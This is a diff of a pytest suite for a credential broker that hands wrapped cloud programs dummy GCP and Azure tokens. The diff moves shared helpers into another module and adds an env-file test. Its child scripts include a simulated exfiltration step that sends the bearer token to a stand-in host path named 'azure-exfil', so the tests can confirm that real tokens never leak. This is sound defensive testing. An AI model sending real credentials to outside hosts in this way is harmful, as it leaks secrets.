@@ -22,21 +22,18 @@ import base64
 import json
 import os
 import re
-import subprocess
-import time
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
-from urllib.parse import quote
 
 import pytest
 
 import fake_google
-from conftest import BROKER_BIN, Upstream, assert_refusal, clean_env, make_pki
-from fake_aws import ConnectProxy
+import wrapped_session
+from conftest import assert_refusal, make_pki
 from fake_google import FakeCloud, make_authorized_user, make_service_account
+from wrapped_session import CHILD_HELPERS, OTHER, WrappedRun, Wrapper, forms_of
 
 PY = "/usr/bin/python3"  # Debian's, with python3-google-auth and python3-requests
-OTHER = "api.example.test"  # allowed by the policies, bound to no credential
 STORAGE_URL = "https://storage.googleapis.com/storage/v1/b?project=p"
 AZURE_URL = "https://management.azure.com/subscriptions?api-version=2020-01-01"
 CUSTOM_SCOPES = ["https://www.googleapis.com/auth/devstorage.read_only",
@@ -90,11 +87,6 @@ def step(name, fn):
                      "trace": traceback.format_exc()[-3000:]}
 
 
-def response(r):
-    return {"status": r.status_code, "headers": {k.lower(): v for k, v in r.headers.items()},
-            "body": r.text[:4000]}
-
-
 def curl(url, variable):
     """curl -H "Authorization: Bearer $VARIABLE" URL, as a user would type it in a shell."""
     tmp = tempfile.mkdtemp()
@@ -115,6 +107,21 @@ def curl(url, variable):
             "stderr": p.stderr[-2000:]}
 
 
+def poll(fetch):
+    """Calls fetch() about every half second for CONF["loop_seconds"]; returns what each call
+    returned, or {"status": 0, "error": ...} for one that raised."""
+    out = []
+    end = time.monotonic() + CONF["loop_seconds"]
+    while time.monotonic() < end:
+        t = time.monotonic()
+        try:
+            out.append(fetch())
+        except Exception as e:
+            out.append({"status": 0, "error": repr(e)[:500]})
+        time.sleep(max(0.0, 0.5 - (time.monotonic() - t)))
+    return out
+
+
 def snapshot():
     """Copies the session directory (the key file's and the trust bundle's; it is removed when
     the session ends) to CONF["snapshot"], regular files only; returns the names copied."""
@@ -129,11 +136,7 @@ def snapshot():
                 shutil.copyfile(entry.path, dst)
                 names.append(entry.path)
     return names
-
-
-def finish():
-    print("RESULT " + json.dumps(OUT), flush=True)
-'''
+''' + CHILD_HELPERS
 
 GCP_SCRIPT = CHILD_COMMON + r'''
 import google.auth
@@ -166,19 +169,10 @@ def echo():
     return {**response(r), "token": STATE["creds"].token}
 
 
-def loop():
-    out = []
-    end = time.monotonic() + CONF["loop_seconds"]
-    while time.monotonic() < end:
-        t = time.monotonic()
-        try:
-            r = STATE["session"].get(STORAGE, timeout=30)
-            out.append({"status": r.status_code, "token": STATE["creds"].token,
-                        "body": r.text[:300] if r.status_code != 200 else ""})
-        except Exception as e:
-            out.append({"status": 0, "error": repr(e)[:500]})
-        time.sleep(max(0.0, 0.5 - (time.monotonic() - t)))
-    return out
+def storage_once():
+    r = STATE["session"].get(STORAGE, timeout=30)
+    return {"status": r.status_code, "token": STATE["creds"].token,
+            "body": r.text[:300] if r.status_code != 200 else ""}
 
 
 def unbound_bearer():
@@ -205,7 +199,7 @@ if CONF.get("unbound"):
     step("unbound_bearer", unbound_bearer)
     step("unbound_refresh_token", unbound_refresh_token)
 if CONF.get("loop_seconds"):
-    step("loop", loop)
+    step("loop", lambda: poll(storage_once))
     step("curl_after", lambda: curl(STORAGE, "CLOUDSDK_AUTH_ACCESS_TOKEN"))
 finish()
 '''
@@ -220,18 +214,9 @@ def get(url):
     return response(requests.get(url, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=30))
 
 
-def loop():
-    out = []
-    end = time.monotonic() + CONF["loop_seconds"]
-    while time.monotonic() < end:
-        t = time.monotonic()
-        try:
-            r = get(URL)
-            out.append({"status": r["status"], "body": r["body"][:300] if r["status"] != 200 else ""})
-        except Exception as e:
-            out.append({"status": 0, "error": repr(e)[:500]})
-        time.sleep(max(0.0, 0.5 - (time.monotonic() - t)))
-    return out
+def url_once():
+    r = get(URL)
+    return {"status": r["status"], "body": r["body"][:300] if r["status"] != 200 else ""}
 
 
 step("snapshot", snapshot)
@@ -242,7 +227,7 @@ if CONF.get("echo"):
 if CONF.get("unbound"):
     step("unbound_bearer", lambda: get(f"https://{OTHER}/azure-exfil"))
 if CONF.get("loop_seconds"):
-    step("loop", loop)
+    step("loop", lambda: poll(url_once))
 finish()
 '''
 
@@ -278,120 +263,25 @@ print(json.dumps({{
 
 
 @dataclass
-class CloudRun:
-    name: str
-    dir: Path
-    returncode: int
-    stdout: bytes
-    stderr: bytes
-    elapsed: float
-    logs: Path
-    runtime: Path
-    snapshot: Path
-    result: dict = None
-    records_: list = field(default_factory=list)
+class CloudRun(WrappedRun):
+    snapshot: Path = None  # the child's copy of the session directory, made while it existed
 
-    def describe(self) -> str:
-        return (f"[{self.name}] exit={self.returncode} elapsed={self.elapsed:.1f}s\n"
-                f"stdout={self.stdout.decode(errors='replace')[-4000:]}\n"
-                f"stderr={self.stderr.decode(errors='replace')[-4000:]}")
-
-    def out(self) -> dict:
-        assert self.result is not None, f"the wrapped script printed no RESULT\n{self.describe()}"
-        return self.result
-
-    def env(self) -> dict:
-        return self.out()["env"]
-
-    def step(self, name) -> dict:
-        s = self.out().get(name)
-        assert s is not None, f"no step {name} in the result\n{self.describe()}"
-        return s
-
-    def ok(self, name):
-        s = self.step(name)
-        assert s["ok"], f"step {name} failed: {json.dumps(s, indent=1)[:3000]}\n{self.describe()}"
-        return s["value"]
-
-    def records(self):
-        if not self.records_:
-            for f in sorted(self.logs.glob("*.jsonl")):
-                for line in f.read_text().splitlines():
-                    if line.strip():
-                        self.records_.append(json.loads(line))
-        return self.records_
-
-    def requests(self):
-        return [r for r in self.records() if r.get("event") == "request"]
-
-    def written(self):
-        """(what, bytes) for everything the broker wrote or passed on: stdout (the child's,
-        relayed), stderr, every file under the log dir and the runtime dir, and the copy of the
-        session directory the child made while it existed."""
-        out = [("stdout", self.stdout), ("stderr", self.stderr)]
-        for root in (self.logs, self.runtime, self.snapshot):
-            if root.exists():
-                for f in sorted(root.rglob("*")):
-                    if f.is_file():
-                        out.append((str(f), f.read_bytes()))
-        return out
+    def written_roots(self) -> tuple:
+        return (*super().written_roots(), self.snapshot)
 
 
-def _parse_result(stdout: bytes):
-    for line in stdout.decode(errors="replace").splitlines():
-        if line.startswith("RESULT "):
-            return json.loads(line[len("RESULT "):])
-    return None
-
-
-def _broker_env(home, runtime, extra=None, path_prefix=None):
-    env = {k: v for k, v in clean_env().items()
-           if not k.startswith(("GOOGLE_", "CLOUDSDK_", "AZURE_", "AWS_"))}
-    env["HOME"] = str(home)
-    env["XDG_RUNTIME_DIR"] = str(runtime)
-    if path_prefix is not None:
-        env["PATH"] = f"{path_prefix}:{env.get('PATH', '/usr/bin:/bin')}"
-    env.update(extra or {})
-    return env
-
-
-class Wrapper:
-    def __init__(self, base: Path, pki, fake: FakeCloud, echo: Upstream):
-        self.base, self.pki, self.fake, self.echo = base, pki, fake, echo
-
-    def connect_args(self):
-        out = []
-        for h in fake_google.GOOGLE_HOSTS + fake_google.AZURE_HOSTS:
-            out += ["--connect-to", f"{h}:443:127.0.0.1:{self.fake.port}"]
-        return out + ["--connect-to", f"{OTHER}:443:127.0.0.1:{self.echo.port}"]
-
-    def dir(self, name) -> Path:
-        d = self.base / name
-        d.mkdir(parents=True, exist_ok=True)
-        return d
+class CloudWrapper(Wrapper):
+    hosts = fake_google.GOOGLE_HOSTS + fake_google.AZURE_HOSTS
 
     def run(self, name, script, conf, policy, env=None, path_prefix=None, log_level="debug",
             timeout=90) -> CloudRun:
-        d = self.dir(name)
-        home, runtime, logs, snap = d / "home", d / "run", d / "logs", d / "snapshot"
-        home.mkdir()
-        runtime.mkdir(mode=0o700)
+        snap = self.dir(name) / "snapshot"
         snap.mkdir()
-        policy_file = d / "policy.json"
-        policy_file.write_text(json.dumps(policy, indent=2))
-        argv = [BROKER_BIN, "wrap", "--policy", str(policy_file), "--upstream-ca",
-                str(self.pki.ca_cert), *self.connect_args(), "--log-dir", str(logs)]
-        if log_level:
-            argv += ["--log-level", log_level]
         conf = {"storage": STORAGE_URL, "url": AZURE_URL, "other": OTHER,
                 "snapshot": str(snap), **conf}
-        argv += ["--", PY, "-c", script, json.dumps(conf)]
-        t0 = time.monotonic()
-        p = subprocess.run(argv, capture_output=True, timeout=timeout, cwd=d,
-                           stdin=subprocess.DEVNULL,
-                           env=_broker_env(home, runtime, env, path_prefix))
-        return CloudRun(name, d, p.returncode, p.stdout, p.stderr, time.monotonic() - t0, logs,
-                        runtime, snap, _parse_result(p.stdout))
+        return self.wrap(CloudRun, name, [PY, "-c", script, json.dumps(conf)], policy, env=env,
+                         path_prefix=path_prefix, log_level=log_level, timeout=timeout,
+                         snapshot=snap)
 
     def key_file(self, name, doc) -> Path:
         path = self.dir("keys") / f"{name}.json"
@@ -418,13 +308,13 @@ class Wrapper:
 
 
 @pytest.fixture(scope="module")
-def cloud_pki(tmp_path_factory):
+def upstream_pki(tmp_path_factory):
     return make_pki(tmp_path_factory.mktemp("cloud-pki"), fake_google.CERT_NAMES)
 
 
 @pytest.fixture(scope="module")
-def fake(cloud_pki):
-    f = FakeCloud(cloud_pki)
+def fake(upstream_pki):
+    f = FakeCloud(upstream_pki)
     for account in (SA_MAIN, SA_REFRESH, SA_DIRECT):
         f.add_account(account)
     f.add_user(USER)
@@ -434,17 +324,13 @@ def fake(cloud_pki):
     f.close()
 
 
-@pytest.fixture(scope="module")
-def echo(cloud_pki):
-    """A plain HTTPS echo upstream posing as api.example.test (allowed, bound to nothing)."""
-    u = Upstream(tls=cloud_pki)
-    yield u
-    u.close()
+# The echo upstream posing as OTHER, and a plain CONNECT proxy (no broker) to the fake and it.
+echo, proxy = wrapped_session.echo, wrapped_session.proxy
 
 
 @pytest.fixture(scope="module")
-def wrapper(tmp_path_factory, cloud_pki, fake, echo):
-    return Wrapper(tmp_path_factory.mktemp("cloud-wrap"), cloud_pki, fake, echo)
+def wrapper(tmp_path_factory, upstream_pki, fake, echo):
+    return CloudWrapper(tmp_path_factory.mktemp("cloud-wrap"), upstream_pki, fake, echo)
 
 
 @pytest.fixture(scope="module")
@@ -564,20 +450,9 @@ def real_values(run_name, fake) -> list:
     return [t.token for t in az_tokens(fake, label)]
 
 
-def forms_of(value: str):
-    return {value.encode(), quote(value, safe="").encode(), base64.b64encode(value.encode())}
-
-
 # ==============================================================================================
 # 0. The fake is strict (no broker)
 # ==============================================================================================
-
-
-@pytest.fixture(scope="module")
-def proxy(fake, echo):
-    p = ConnectProxy(lambda host, port: ("127.0.0.1", echo.port if host == OTHER else fake.port))
-    yield p
-    p.close()
 
 
 def _direct_session(proxy, pki):
@@ -589,7 +464,7 @@ def _direct_session(proxy, pki):
     return s
 
 
-def test_fake_accepts_google_auths_own_grants_and_refuses_bad_ones(fake, proxy, cloud_pki):
+def test_fake_accepts_google_auths_own_grants_and_refuses_bad_ones(fake, proxy, upstream_pki):
     """google-auth's JWT bearer grant and refresh-token grant work against the fake, its tokens
     open the storage API; a wrong key, a tampered assertion, a wrong scope, a wrong client secret
     and an unknown token are all refused."""
@@ -598,7 +473,7 @@ def test_fake_accepts_google_auths_own_grants_and_refuses_bad_ones(fake, proxy, 
     from google.oauth2 import credentials as user_credentials
     from google.oauth2 import service_account
 
-    http = _direct_session(proxy, cloud_pki)
+    http = _direct_session(proxy, upstream_pki)
     req = Request(http)
     sa = service_account.Credentials.from_service_account_info(
         SA_DIRECT.key_file(), scopes=[fake_google.DEFAULT_SCOPE])
@@ -651,8 +526,7 @@ def test_gcp_child_gets_a_dummy_key_file_and_a_dummy_access_token(sa_run):
     dummy, key = assert_gcp_session_env(sa_run)
     env = sa_run.env()
     assert env["GOOGLE_APPLICATION_CREDENTIALS"] in sa_run.ok("snapshot"), sa_run.out()["snapshot"]
-    lines = [l for l in sa_run.stderr.decode(errors="replace").splitlines()
-             if l.startswith("broker: session ")]
+    lines = sa_run.session_lines()
     assert lines, sa_run.describe()
     brokered = lines[0].partition("; removed ")[0]
     assert "GOOGLE_APPLICATION_CREDENTIALS (google)" in brokered, lines[0]
@@ -823,8 +697,7 @@ def test_azure_child_gets_a_dummy_shaped_like_the_real_token(azure_run, fake):
     real = tokens[0].token
     assert dummy != real and len(dummy) == len(real), dummy
     assert [i for i, c in enumerate(dummy) if c == "."] == [i for i, c in enumerate(real) if c == "."]
-    brokered = [l for l in r.stderr.decode(errors="replace").splitlines()
-                if l.startswith("broker: session ")][0].partition("; removed ")[0]
+    brokered = r.session_lines()[0].partition("; removed ")[0]
     assert "AZURE_ACCESS_TOKEN (azure)" in brokered, brokered
 
 
@@ -912,3 +785,30 @@ def test_no_real_value_in_anything_the_broker_wrote(request, fake, run_name):
         for real in reals:
             for form in forms_of(real):
                 assert form not in data, f"{what} holds a real value ({form[:12]!r}...)"
+
+
+def test_serve_env_file_carries_a_gcp_key_file_of_dummies(tmp_path):
+    """`serve --env-file` gives programs outside a wrap the same gcp view: the key file beside
+    the env file (0600, an authorized_user key of the dummy client) and the dummy token."""
+    from conftest import Broker
+
+    real = "ya29.a0AfB_" + "R" * 120
+    policy = {"version": 1, "allow": [{"host": "*.googleapis.com"}],
+              "credentials": {"google": {"type": "gcp", "hosts": ["*.googleapis.com"],
+                                         "source": f"cmd:printf '{real}'"}}}
+    b = Broker(tmp_path, policy=policy, env_file=True)
+    try:
+        lines = dict(line.split("=", 1) for line in b.env_file.read_text().splitlines() if line)
+        key_path = Path(lines["GOOGLE_APPLICATION_CREDENTIALS"])
+        assert key_path == Path(str(b.env_file) + ".gcp-google.json")
+        assert (key_path.stat().st_mode & 0o777) == 0o600
+        key = json.loads(key_path.read_text())
+        assert key["type"] == "authorized_user"
+        assert key["token_uri"] == "https://oauth2.googleapis.com/token"
+        assert key["client_id"].endswith(".apps.googleusercontent.com")
+        dummy = lines["CLOUDSDK_AUTH_ACCESS_TOKEN"]
+        assert dummy.startswith("ya29.") and len(dummy) == len(real) and dummy != real
+        for data in (b.env_file.read_bytes(), key_path.read_bytes()):
+            assert real.encode() not in data
+    finally:
+        b.stop()
